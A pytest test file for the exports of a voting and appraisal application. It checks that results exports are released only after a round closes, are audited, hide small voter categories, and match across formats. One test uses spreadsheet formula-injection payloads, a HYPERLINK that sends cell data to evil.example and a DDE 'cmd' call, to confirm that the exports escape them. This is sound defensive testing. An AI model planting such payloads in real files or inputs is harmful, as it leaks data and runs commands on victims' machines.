"""Exports of a closed round: Excel, PDF and CSV with the same figures, only after
close, audited, k-anonymous, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from server.core.audit import AuditEntry
from server.core.db import db
from tests.factories import organizer
from tests.support.rounds_http import (
    assert_k_safe_json,
    lifecycle,
    run_round,
    without_other_groups,
)

CRITERIA = ["political", "ability", "performance", "style", "integrity", "overall"]
FORMATS = ("xlsx", "pdf", "csv")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def grades(overall: str, other: str = "competent") -> dict[str, str]:
    return {c: overall if c == "overall" else other for c in CRITERIA}


def appraisal_round(client, key, close=True, **extra):
    """纪委委员 has 3 ballots (below k = 5); the others have 6 and 7."""
    body = {"form": "appraisal", "title": "2026年度领导班子民主测评",
            "subjects": [{"name": "领导班子", "note": "整体"}, {"name": "王建国", "note": "党委书记"}],
            "categories": [{"name": "纪委委员", "expected_count": 3, "weight": 0.2},
                           {"name": "中层干部", "expected_count": 8, "weight": 0.4},
                           {"name": "职工代表", "expected_count": 10, "weight": 0.4}],
            **extra}
    ballots = {
        "纪委委员": [{"#0": grades("basic"), "#1": grades("incompetent")}] * 3,
        "中层干部": [{"#0": grades("excellent"), "#1": grades("competent")}] * 4
                + [{"#0": grades("competent"), "#1": grades("unknown")}] * 2,
        "职工代表": [{"#0": grades("excellent"), "#1": grades("excellent")}] * 7,
    }
    return run_round(client, key, body, ballots, close=close)


def export(client, key, rid, fmt):
    return client.get(f"/api/v1/rounds/{rid}/export.{fmt}", headers=key)


def pdf_text(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(data)
    out = subprocess.run([shutil.which("pdftotext") or "pdftotext", "-layout", str(path), "-"],
                         capture_output=True, check=True, text=True)
    return out.stdout


def workbook_text(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [str(c.value) for ws in wb for row in ws.iter_rows() for c in row
            if c.value is not None] + wb.sheetnames


def test_exports_only_after_close(app, client, key):
    rnd, _ = appraisal_round(client, key, close=False)
    for fmt in FORMATS:
        res = export(client, key, rnd["id"], fmt)
        assert res.status_code == 409 and res.json["error"]["code"] == "round_not_closed"
    with app.app_context():
        assert db.session.execute(db.select(AuditEntry).filter_by(
            action="round.export")).first() is None


def test_xlsx_layout_and_figures(app, client, key):
    rnd, _ = appraisal_round(client, key)
    rid = rnd["id"]
    results = client.get(f"/api/v1/rounds/{rid}/results", headers=key).json
    res = export(client, key, rid, "xlsx")
    assert res.status_code == 200
    assert res.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = res.headers["Content-Disposition"]
    assert f'filename="round{rid}-results.xlsx"' in disposition and "filename*=UTF-8''" in disposition

    wb = load_workbook(io.BytesIO(res.data))
    assert wb.sheetnames == ["汇总", "领导班子", "王建国", "有效性"]
    ws = wb["汇总"]
    assert ws["A1"].value == "2026年度领导班子民主测评"
    # title over all 16 columns (…, 称职以上率, 基本称职以上率, 标记)
    assert "A1:P1" in {str(r) for r in ws.merged_cells.ranges}
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
    assert ws.sheet_properties.pageSetUpPr.fitToPage is True
    assert ws.column_dimensions["B"].width >= 12

    # 汇总: ranked rows under a two-row header (优秀 spans 票数 + 比例)
    header = next(r for r in range(1, 15) if ws.cell(r, 1).value == "名次")
    assert ws.cell(header, 5).value == "优秀" and ws.cell(header + 1, 5).value == "票数"
    assert ws.cell(header + 1, 6).value == "比例"
    assert any(str(m).startswith(f"E{header}:F{header}") for m in ws.merged_cells.ranges)
    a = results["appraisal"]
    by_id = {s["id"]: s for s in a["subjects"]}
    rows = [[ws.cell(r, c).value for c in range(1, 15)]
            for r in range(header + 2, header + 2 + len(a["order"]))]
    for row, sid in zip(rows, a["order"], strict=True):
        s = by_id[sid]
        assert row[0] == s["rank"] and row[1] == s["name"] and row[3] == s["score"]
        overall = next(c for c in s["criteria"] if c["key"] == "overall")
        excellent = overall["grades"][0]
        assert row[4] == excellent["count"]
        assert row[5] == pytest.approx(excellent["rate_pct"] / 100)
        cell = ws.cell(header + 2 + rows.index(row), 6)
        assert cell.number_format == "0.00%" and cell.border.left.style == "thin"
        competent_up = next(r for r in s["rates"] if r["label"] == "称职以上率")
        assert ws.cell(header + 2 + rows.index(row), 14).value == pytest.approx(
            competent_up["pct"] / 100)

    # a subject's sheet: criteria × grades, counts and rates, then its score
    team = wb["领导班子"]
    values = [[c.value for c in row] for row in team.iter_rows()]
    overall_row = next(r for r in values if r[0] == "总体评价")
    # 中层干部 4 优秀 2 称职, 职工代表 7 优秀, 纪委委员 3 基本称职 → 11 / 16
    assert overall_row[1:3] == [11, pytest.approx(11 / 16)]
    assert overall_row[3:5] == [2, pytest.approx(2 / 16)]

    validity = wb["有效性"]
    vals = [[c.value for c in row] for row in validity.iter_rows()]
    total = next(r for r in vals if r[0] == "合计")
    t = results["validity"]["total"]
    assert total[1:6] == [t["expected"], t["cast"], t["valid"], t["invalid"],
                          pytest.approx(t["turnout_pct"] / 100)]
    assert any(isinstance(r[0], str) and r[0].startswith("公布条件") for r in vals)


def test_csv_and_pdf_carry_the_same_figures(app, client, key, tmp_path):
    rnd, _ = appraisal_round(client, key)
    rid = rnd["id"]
    results = client.get(f"/api/v1/rounds/{rid}/results", headers=key).json
    scores = [f"{s['score']:.2f}" for s in results["appraisal"]["subjects"]]

    res = export(client, key, rid, "csv")
    assert res.status_code == 200 and res.mimetype == "text/csv"
    assert res.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert res.data.startswith(b"\xef\xbb\xbf")
    text = res.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))  # tidy: one header, a row per figure
    assert all(any(r["measure"] == "score" and r["category"] == "全部" and r["shown"] == score
                   for r in rows) for score in scores)
    excellent = next(r for r in rows if r["subject"] == "领导班子" and r["category"] == "全部"
                     and r["criterion"] == "overall" and r["measure"] == "share:excellent")
    assert (excellent["value"], excellent["unit"], excellent["shown"]) == (
        "0.6875", "ratio", "68.75%")  # 11 of 16

    res = export(client, key, rid, "pdf")
    assert res.status_code == 200 and res.mimetype == "application/pdf"
    assert res.data.startswith(b"%PDF")
    pdf = pdf_text(res.data, tmp_path)
    from server.core.fonts import reportlab_cjk_is_embedded

    if reportlab_cjk_is_embedded() and shutil.which("pdffonts"):
        fonts = subprocess.run(["pdffonts", str(tmp_path / "report.pdf")], capture_output=True,
                               text=True, check=True).stdout
        cjk = [line for line in fonts.splitlines()[2:] if "Helvetica" not in line]
        assert cjk and all(" yes " in line for line in cjk)  # the CJK font is embedded
    assert "2026年度领导班子民主测评" in pdf and "测评结果汇总表" in pdf
    assert "有效性与计算规则" in pdf and "应到" in pdf and "参评率" in pdf
    assert all(score in pdf for score in scores)

    with app.app_context():
        audited = db.session.execute(db.select(AuditEntry).filter_by(
            action="round.export")).scalars().all()
    assert sorted(e.detail for e in audited) == ["csv", "pdf"]
    assert all(e.target == f"round:{rid}" for e in audited)


def test_no_export_or_view_shows_a_category_below_k(app, client, key, tmp_path):
    """纪委委员 (3 ballots, k = 5) appears only inside the merged 其他 group."""
    rnd, _ = appraisal_round(client, key, announce_on_close=True)  # the projector shows them
    rid = rnd["id"]
    small = "纪委委员"

    results = client.get(f"/api/v1/rounds/{rid}/results", headers=key).json
    assert_k_safe_json(results, 5, {small})
    feed = client.get(f"/api/v1/rounds/{rid}/projector", headers=key).json
    assert feed["results"] is not None
    assert_k_safe_json(feed["results"], 5, {small})
    assert small not in str(feed["results"])

    texts = {
        "xlsx": "\n".join(workbook_text(export(client, key, rid, "xlsx").data)),
        "csv": export(client, key, rid, "csv").data.decode("utf-8-sig"),
        "pdf": re.sub(r"\s+", "", pdf_text(export(client, key, rid, "pdf").data, tmp_path)),
    }
    page = client.get(f"/console/rounds/{rid}/results")  # session-less: log in below
    assert page.status_code in (302, 401)
    for fmt, text in texts.items():
        assert "其他" in text, fmt
        assert small not in without_other_groups(text), f"{small} shown alone in {fmt}"

    # the console results page, signed in
    from tests.conftest import csrf_token

    login = client.get("/console/login").get_data(as_text=True)
    client.post("/console/login", data={"csrf_token": csrf_token(login),
                                        "username": "organizer", "password": "correct horse 1"})
    html = client.get(f"/console/rounds/{rid}/results").get_data(as_text=True)
    html = re.sub(r"<[^>]+>", "", html)
    assert "其他" in html and small not in without_other_groups(html)


def test_formula_injection_is_neutralised(app, client, key, tmp_path):
    body = {"form": "recommendation", "title": "+推荐@测试", "max_choices": 1,
            "subjects": [{"name": EVIL}, {"name": "@SUM(1+1)"}, {"name": "-2+3"},
                         {"name": "正常名字", "note": "=1+1"}],
            "categories": [{"name": "=cmd|' /C calc'!A0", "expected_count": 6}],
            "results": {"min_turnout": 0}}
    rnd, _ = run_round(client, key, body, {"=cmd|' /C calc'!A0": [{"choices": [0]}] * 6})
    rid = rnd["id"]

    wb = load_workbook(io.BytesIO(export(client, key, rid, "xlsx").data))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell became a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + EVIL in texts and "'@SUM(1+1)" in texts and "'-2+3" in texts
    assert "'=1+1" in texts and "'+推荐@测试" in texts
    assert not [t for t in texts if t[:1] in "=+-@"]
    assert all(not name.startswith(("=", "+", "-", "@", "'")) for name in wb.sheetnames)

    rows = list(csv.reader(io.StringIO(export(client, key, rid, "csv").data.decode("utf-8-sig"))))
    fields = [f for r in rows for f in r]
    assert "'" + EVIL in fields and "'@SUM(1+1)" in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]

    pdf = pdf_text(export(client, key, rid, "pdf").data, tmp_path)
    assert "HYPERLINK" in pdf  # the PDF shows names as they are; nothing evaluates there


def test_recommendation_and_scoring_exports(app, client, key):
    body = {"form": "recommendation", "title": "后备干部推荐", "max_choices": 2,
            "subjects": [{"name": f"候选人{i}"} for i in range(1, 5)],
            "categories": [{"name": "中层干部", "expected_count": 6},
                           {"name": "职工代表", "expected_count": 6}]}
    rnd, _ = run_round(client, key, body, {"中层干部": [{"choices": [0, 1]}] * 6,
                                           "职工代表": [{"choices": [0, 2]}] * 5})
    wb = load_workbook(io.BytesIO(export(client, key, rnd["id"], "xlsx").data))
    assert wb.sheetnames == ["汇总", "分类得票", "有效性"]
    rows = [[c.value for c in row] for row in wb["汇总"].iter_rows()]
    first = next(r for r in rows if r[1] == "候选人1")
    assert first[:7] == [1, "候选人1", None, 11, 1.0, "是", "推荐人选"]
    split = [[c.value for c in row] for row in wb["分类得票"].iter_rows()]
    assert next(r for r in split if r[1] == "候选人2")[2:5] == [6, 0, 6]

    body = {"form": "review", "title": "述职评议", "subjects": [{"name": "书记甲"}],
            "categories": [{"name": "考评组", "expected_count": 5}]}
    sheet = {"responsibility": 20, "organization": 20, "conduct": 15, "innovation": 10,
             "answers": 8}
    rnd, _ = run_round(client, key, body, {"考评组": [{"#0": {**sheet, "responsibility": v}}
                                                    for v in (10, 20, 20, 20, 30)]})
    wb = load_workbook(io.BytesIO(export(client, key, rnd["id"], "xlsx").data))
    assert wb.sheetnames == ["汇总", "有效性"]
    row = next(r for r in ([c.value for c in row] for row in wb["汇总"].iter_rows())
               if r[1] == "书记甲")
    assert row[3] == 20.0 and row[8] == 73.0  # trimmed mean of 10, 20×3, 30 is 20


def test_exports_are_scoped_to_the_committee(app, client, key):
    rnd, _ = appraisal_round(client, key)
    with app.app_context():
        from server.organization.models import Committee

        other = Committee(name="别的党委")
        db.session.add(other)
        db.session.commit()
        user, raw = organizer("outsider")
        user.committee_id = other.id
        db.session.commit()
    for fmt in FORMATS:
        res = client.get(f"/api/v1/rounds/{rnd['id']}/export.{fmt}",
                         headers={"Authorization": f"Bearer {raw}"})
        assert res.status_code == 404
    assert client.get(f"/api/v1/rounds/{rnd['id']}/export.xlsx").status_code == 401


def test_published_round_still_exports(app, client, key):
    rnd, _ = appraisal_round(client, key)
    assert lifecycle(client, key, rnd["id"], "publish").json["status"] == "published"
    res = export(client, key, rnd["id"], "pdf")
    assert res.status_code == 200
